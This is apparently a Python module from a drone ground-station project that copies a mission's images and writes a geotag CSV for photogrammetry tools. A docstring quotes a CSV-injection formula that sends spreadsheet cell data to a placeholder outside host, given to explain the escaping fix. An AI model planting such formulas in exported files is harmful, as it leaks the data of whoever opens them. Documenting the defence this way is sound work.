"""``uav-ground-station export MISSION --out DIR``: images plus a CSV of geotags.

The CSV has one row per stored image with the position and attitude at capture, in the
column names photogrammetry tools import (OpenDroneMap / Meshroom / Pix4D geotag lists:
``image``, ``latitude``, ``longitude``, ``altitude``, then ``yaw``, ``pitch``, ``roll``).
Each row also has ``pose_age_s`` (how old the position was at capture) and ``pose``
(``ok``/``stale``/``none``). Images without a position (no fix) or with a stale one (an
autopilot outage) are copied but left out of the CSV, so photogrammetry never takes the
last known position for the place an image shows; ``include_stale`` lists them too.
"""

from __future__ import annotations

import csv
import shutil
import sqlite3
from dataclasses import dataclass
from pathlib import Path

from ground_station.storage import Storage, safe_name
from ground_station.storage_identity import generation_label

__all__ = ["ExportError", "ExportResult", "export_mission"]


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: str) -> str:
    """A text cell a spreadsheet shows as text: a leading ``'`` before ``= + - @`` or a tab.
    The sender id comes from the wire (any fleet-key holder picks it, printable, 32 bytes),
    and ``=HYPERLINK("http://x/?"&A1)`` there was a formula wherever the operator opened
    geotags.csv (OWASP "CSV injection"; docs/security.md, 2026-11-24)."""
    return "'" + value if value.startswith(_FORMULA_START) else value


class ExportError(Exception):
    """An export that cannot run; the text says why in one line."""

COLUMNS = [
    "image",
    "latitude",
    "longitude",
    "altitude",
    "yaw",
    "pitch",
    "roll",
    "sender",
    "seq",
    "t_gen",
    "t_rcv",
    "utility",
    "red",
    "object",
    "x_m",
    "y_m",
    "pose_age_s",
    "pose",
    "altitude_above_home",
    "altitude_ref",
]
"""``altitude`` is above mean sea level, as photogrammetry tools read a GPS altitude, when
the drone sent it (``altitude_ref`` = ``amsl``); from a drone that sent only its height
above home it is that height (``home``). The export wrote the height above home (30 m in
the demo, where home is at 488 m) as ``altitude`` before: georeferenced elevations came out
off by the home's elevation."""


@dataclass(frozen=True, slots=True, kw_only=True)
class ExportResult:
    images: int
    missing: int
    """Indexed images whose file could not be found or copied."""
    csv_path: Path
    untagged: int = 0
    """Copied images left out of the CSV: no position or a stale one."""


def export_mission(data_dir: Path, mission: str, out: Path, *,
                   include_stale: bool = False) -> ExportResult:
    """Copy a mission's images into ``out/images`` and write ``out/geotags.csv``."""
    database = data_dir / "ground_station.sqlite3"
    if not database.is_file():  # opening it would create an empty one
        raise ExportError(f"no ground station database in {data_dir} (no {database.name}): "
                          "give the station's --data-dir or --config")
    try:
        storage = Storage(data_dir, readonly=True)
    except (OSError, sqlite3.Error) as exc:
        raise ExportError(f"cannot open {database}: {exc}") from None
    try:
        try:
            missions = {m["name"] for m in storage.missions()}
        except sqlite3.Error as exc:  # not a database, or not the station's
            raise ExportError(f"{database}: not a ground station database ({exc})") from None
        if mission not in missions:
            known = ", ".join(sorted(missions)) or "none"
            raise KeyError(f"mission {mission!r} not found in {data_dir} (known: {known})")
        rows = list(storage.iter_images(mission))
    finally:
        storage.close()
    images_dir = out / "images"
    images_dir.mkdir(parents=True, exist_ok=True)
    csv_path = out / "geotags.csv"
    copied = missing = untagged = 0
    names: set[str] = set()
    with open(csv_path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        for row in rows:
            if row.path is None or not (data_dir / row.path).is_file():
                missing += 1
                continue
            name = f"{safe_name(row.sender)}_{row.seq:09d}.jpg"
            if name in names:  # a restarted drone's seq again (rows come oldest first)
                name = f"{safe_name(row.sender)}_{row.seq:09d}~{generation_label(row.t_gen)}.jpg"
            names.add(name)
            shutil.copy2(data_dir / row.path, images_dir / name)
            copied += 1
            pose = row.pose or ("ok" if row.lat_deg is not None and row.lon_deg is not None
                                else "none")
            if pose != "ok" and not include_stale:
                untagged += 1
                continue
            writer.writerow(
                [
                    f"images/{name}",
                    row.lat_deg,
                    row.lon_deg,
                    row.alt_amsl_m if row.alt_amsl_m is not None else row.alt_m,
                    row.yaw_deg,
                    row.pitch_deg,
                    row.roll_deg,
                    csv_text(row.sender),
                    row.seq,
                    row.t_gen,
                    row.t_rcv,
                    row.utility,
                    row.red,
                    int(row.object),
                    row.x_m,
                    row.y_m,
                    row.pose_age_s,
                    pose,
                    row.alt_m,
                    "amsl" if row.alt_amsl_m is not None else "home" if row.alt_m is not None
                    else "",
                ]
            )
    return ExportResult(images=copied, missing=missing, csv_path=csv_path, untagged=untagged)
